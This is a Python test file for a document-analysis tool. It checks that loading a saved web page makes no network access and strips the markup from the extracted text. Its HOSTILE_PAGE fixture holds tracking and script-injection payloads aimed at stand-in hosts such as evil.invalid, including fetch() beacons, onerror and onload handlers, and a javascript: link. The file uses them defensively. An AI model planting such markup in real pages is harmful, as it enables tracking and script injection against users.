"""A saved web page is never a way in: opening one with remote images, frames, scripts, styles
and redirects attempts no network access at all, and none of that markup reaches the text."""

from __future__ import annotations

import json
import socket
import urllib.request
from pathlib import Path

import pytest

from multivector.cli.main import main
from multivector.documents.loading import load_bytes
from multivector.engine.pipeline import analyze_document
from multivector.summary.build import render_summary

ARTICLE = ("Ghana and Nigeria agreed to hold joint naval patrols in the Gulf of Guinea against "
           "piracy.", "Nigerian instructors will train Ghanaian special forces next year.")

HOSTILE_PAGE = f"""<!DOCTYPE html>
<html><head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=http://tracker.invalid/redirect">
<base href="http://cdn.invalid/">
<link rel="stylesheet" href="http://cdn.invalid/site.css">
<link rel="preconnect" href="https://fonts.invalid">
<link rel="import" href="http://cdn.invalid/widget.html">
<style>@import url("http://cdn.invalid/more.css"); body {{ background: url(http://img.invalid/bg.png); }}
@font-face {{ font-family: X; src: url(https://fonts.invalid/x.woff2); }}</style>
<script src="http://evil.invalid/payload.js"></script>
<script>fetch("http://evil.invalid/beacon"); document.write("<img src=http://evil.invalid/x>");</script>
<title>Gulf patrols</title>
</head><body onload="new Image().src='http://evil.invalid/onload'">
<iframe src="http://ads.invalid/frame.html" width="300" height="250"></iframe>
<article>
<p>{ARTICLE[0]} <img src="http://img.invalid/photo.jpg" srcset="http://img.invalid/2x.jpg 2x"
 onerror="fetch('http://evil.invalid/err')" alt="A patrol boat"></p>
<picture><source srcset="http://img.invalid/p.webp"><img src="http://img.invalid/p.jpg"></picture>
<p>{ARTICLE[1]}</p>
<video poster="http://img.invalid/poster.jpg" src="http://media.invalid/v.mp4"></video>
<audio src="http://media.invalid/a.mp3"></audio>
<object data="http://evil.invalid/flash.swf"><embed src="http://evil.invalid/e.swf"></object>
<svg><image href="http://img.invalid/s.svg"/><script>alert(1)</script></svg>
<iframe srcdoc="&lt;script src=http://evil.invalid/inner.js&gt;&lt;/script&gt;"></iframe>
<a href="javascript:fetch('http://evil.invalid/click')"><img src="http://img.invalid/s.png"></a>
</article>
<script type="module">import "http://evil.invalid/module.js";</script>
<noscript><img src="http://tracker.invalid/pixel.gif"></noscript>
</body></html>"""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every way Python reaches the network is recorded and refused; the test then asserts the
    record is empty (an exception alone could be swallowed by the code under test)."""
    attempts: list[str] = []

    def refuse(what: str) -> object:
        def blocked(*args: object, **_kwargs: object) -> object:
            attempts.append(f"{what}{args[1:] if what.startswith('socket.') else args}")
            raise OSError(f"test: network access attempted through {what}")

        return blocked

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse(f"socket.{name}"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", refuse("gethostbyname"))
    monkeypatch.setattr(urllib.request, "urlopen", refuse("urlopen"))
    return attempts


def test_the_guard_catches_an_attempt(no_network: list[str]) -> None:
    # Proves the fixture works, so that the tests below can fail.
    with pytest.raises(OSError, match="network access"):
        socket.create_connection(("example.invalid", 80), timeout=0.1)
    with pytest.raises(OSError, match="network access"), socket.socket() as raw:
        raw.connect(("192.0.2.1", 80))
    assert len(no_network) == 2


def test_hostile_page_loads_with_no_network_access(no_network: list[str]) -> None:
    document = load_bytes(HOSTILE_PAGE.encode("utf-8"), "gulf.html")
    assert document.source_format == "html"
    assert document.text == f"{ARTICLE[0]}\n\n{ARTICLE[1]}"
    assert no_network == []


def test_analysis_and_summary_of_the_page_stay_offline(no_network: list[str]) -> None:
    analysis = analyze_document(load_bytes(HOSTILE_PAGE.encode("utf-8"), "gulf.html"))
    for fmt in ("text", "markdown", "html"):
        rendered = render_summary(analysis, fmt)
        assert "invalid/" not in rendered  # no remote URL from the page is carried along
        assert "<script" not in rendered
    assert no_network == []


def test_command_line_opens_the_page_offline(tmp_path: Path, no_network: list[str],
                                             capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "gulf.html"
    path.write_text(HOSTILE_PAGE, "utf-8")
    assert main(["analyze", str(path), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert "http" not in data["text"] and "alert" not in data["text"]
    assert data["document"]["title"] == "Gulf patrols"
    assert no_network == []


def test_a_long_hostile_page_goes_through_the_extractor_offline(no_network: list[str]) -> None:
    # long enough for trafilatura's main text to be used (a short one falls back to ours)
    more = " ".join(ARTICLE) + " "
    page = HOSTILE_PAGE.replace(f"<p>{ARTICLE[1]}</p>", f"<p>{ARTICLE[1]}</p><p>{more * 4}</p>")
    import multivector.documents.formats.webpage as webpage

    document = load_bytes(page.encode("utf-8"), "gulf.html")
    assert len(document.text) > webpage._trusted_length()  # noqa: SLF001
    assert document.text.startswith(ARTICLE[0])
    assert "http" not in document.text and "alert" not in document.text
    assert no_network == []
